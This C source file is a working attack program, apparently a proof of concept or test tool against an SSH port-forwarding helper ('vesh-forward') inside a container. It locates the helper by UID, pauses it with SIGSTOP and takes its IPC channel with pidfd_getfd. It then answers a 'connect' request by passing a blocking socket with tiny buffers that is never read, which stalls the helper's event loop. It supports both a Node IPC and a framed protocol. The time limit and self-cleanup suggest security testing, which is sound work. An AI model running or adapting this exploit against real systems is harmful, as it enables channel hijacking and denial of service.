/*
 * Attack: answer the SSH server's next -L connect with a socket we keep, and
 * switch that socket to blocking, with a peer that never reads. Whoever
 * writes to it from an event loop then blocks once the buffers are full.
 * Run inside the VE as VE root (it takes the helper's channel with
 * pidfd_getfd, which needs CAP_SYS_PTRACE over the helper).
 *
 *   forward-blocking UID PORT SECONDS
 *
 * Stops the helper running as UID (SIGSTOP: the channel's requests are then
 * ours to read), takes its channel, listens on 127.0.0.1:PORT with a tiny
 * receive buffer and never accepts, and answers the first "connect" request
 * with a blocking socket connected there (tiny send buffer). Speaks whichever
 * protocol the channel carries: Node IPC lines (the old server) or frames
 * (forward-frame.h, copied here). Prints "waiting" once ready and
 * "answered ID" when it has answered; keeps clearing O_NONBLOCK on the socket
 * for SECONDS (or until SIGTERM), then lets the helper run again and exits
 * (so the attack stops by itself).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

struct frame {
  uint32_t magic, type, id, port, flags, mask;
  char addr[256];
  char text[256];
};
#define MAGIC 0x76736632u
#define T_CONNECTED 2
#define T_CONNECT 16

static volatile sig_atomic_t stop;
static void on_term(int sig) {
  (void)sig;
  stop = 1;
}

static int find_helper(uid_t uid) {
  DIR *d = opendir("/proc");
  if (!d) return -1;
  struct dirent *e;
  int found = -1;
  while ((e = readdir(d))) {
    int pid = atoi(e->d_name);
    if (pid <= 0) continue;
    char p[64], comm[64] = "", buf[512];
    snprintf(p, sizeof p, "/proc/%d/comm", pid);
    FILE *f = fopen(p, "r");
    if (!f) continue;
    if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
    fclose(f);
    if (strcmp(comm, "vesh-forward\n") != 0) continue;
    snprintf(p, sizeof p, "/proc/%d/status", pid);
    f = fopen(p, "r");
    if (!f) continue;
    int ppid = -1;
    unsigned ruid = (unsigned)-1;
    while (fgets(buf, sizeof buf, f)) {
      if (!strncmp(buf, "PPid:", 5)) ppid = atoi(buf + 5);
      if (!strncmp(buf, "Uid:", 4)) ruid = (unsigned)strtoul(buf + 4, NULL, 10);
    }
    fclose(f);
    if (ruid != uid) continue;
    snprintf(p, sizeof p, "/proc/%d/comm", ppid);
    f = fopen(p, "r");
    if (f) {
      if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
      fclose(f);
      if (!strcmp(comm, "vesh-forward\n")) continue;
    }
    found = pid;
  }
  closedir(d);
  return found;
}

static void send_fd(int chan, const void *buf, size_t len, int fd) {
  struct iovec iov = { (void *)buf, len };
  union { char b[CMSG_SPACE(sizeof(int))]; struct cmsghdr a; } u;
  memset(&u, 0, sizeof u);
  struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.b, .msg_controllen = sizeof u.b };
  struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
  c->cmsg_level = SOL_SOCKET;
  c->cmsg_type = SCM_RIGHTS;
  c->cmsg_len = CMSG_LEN(sizeof(int));
  memcpy(CMSG_DATA(c), &fd, sizeof fd);
  if (sendmsg(chan, &mh, MSG_NOSIGNAL) < 0) printf("sendmsg: %s\n", strerror(errno));
}

int main(int argc, char **argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: forward-blocking UID PORT SECONDS\n");
    return 2;
  }
  int pid = find_helper((uid_t)strtoul(argv[1], NULL, 10));
  int port = atoi(argv[2]);
  int seconds = atoi(argv[3]);
  if (pid < 0) {
    printf("no helper\n");
    return 4;
  }
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  int chan = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, 3, 0);
  if (chan < 0) {
    printf("getfd: %s\n", errno == EPERM ? "EPERM" : strerror(errno));
    return 3;
  }
  kill(pid, SIGSTOP);
  int type = 0;
  socklen_t tl = sizeof type;
  int seqpacket = getsockopt(chan, SOL_SOCKET, SO_TYPE, &type, &tl) == 0 && type == SOCK_SEQPACKET;

  int small = 4096;
  int lfd = socket(AF_INET, SOCK_STREAM, 0);
  int one = 1;
  setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  setsockopt(lfd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
  if (bind(lfd, (struct sockaddr *)&a, sizeof a) < 0 || listen(lfd, 8) < 0) {
    printf("listen: %s\n", strerror(errno));
    kill(pid, SIGCONT);
    return 1;
  }
  printf("waiting (%s)\n", seqpacket ? "frames" : "Node IPC");
  fflush(stdout);

  time_t end = time(NULL) + seconds;
  long id = -1;
  static char buf[65536];
  size_t have = 0;
  struct sigaction sa = { .sa_handler = on_term };
  sigaction(SIGTERM, &sa, NULL);
  while (id < 0 && time(NULL) < end && !stop) {
    struct pollfd p = { .fd = chan, .events = POLLIN };
    if (poll(&p, 1, 500) <= 0) continue;
    if (seqpacket) {
      struct frame f;
      ssize_t n = recv(chan, &f, sizeof f, 0);
      if (n == (ssize_t)sizeof f && f.magic == MAGIC && f.type == T_CONNECT) id = f.id;
    } else {
      ssize_t n = read(chan, buf + have, sizeof buf - have - 1);
      if (n <= 0) break;
      have += (size_t)n;
      buf[have] = 0;
      char *c = strstr(buf, "\"t\":\"connect\"");
      if (c) {
        char *i = strstr(buf, "\"id\":");
        if (i) id = strtol(i + 5, NULL, 10);
      }
      if (have > sizeof buf / 2) have = 0;
    }
  }
  if (id < 0) {
    printf("no connect request\n");
    kill(pid, SIGCONT);
    return 1;
  }
  int c = socket(AF_INET, SOCK_STREAM, 0);
  setsockopt(c, SOL_SOCKET, SO_SNDBUF, &small, sizeof small);
  if (connect(c, (struct sockaddr *)&a, sizeof a) < 0) {
    printf("connect: %s\n", strerror(errno));
    kill(pid, SIGCONT);
    return 1;
  }
  if (seqpacket) {
    struct frame f;
    memset(&f, 0, sizeof f);
    f.magic = MAGIC;
    f.type = T_CONNECTED;
    f.id = (uint32_t)id;
    send_fd(chan, &f, sizeof f, c);
  } else {
    char line[200];
    snprintf(line, sizeof line, "{\"cmd\":\"NODE_HANDLE\",\"type\":\"net.Socket\",\"msg\":{\"t\":\"connected\",\"id\":%ld}}\n", id);
    send_fd(chan, line, strlen(line), c);
  }
  printf("answered %ld\n", id);
  fflush(stdout);
  /* Whatever the other side sets, the description we share stays blocking. */
  while (time(NULL) < end && !stop) {
    int fl = fcntl(c, F_GETFL);
    if (fl >= 0 && (fl & O_NONBLOCK)) fcntl(c, F_SETFL, fl & ~O_NONBLOCK);
    usleep(10000);
  }
  kill(pid, SIGCONT);
  printf("done\n");
  return 0;
}
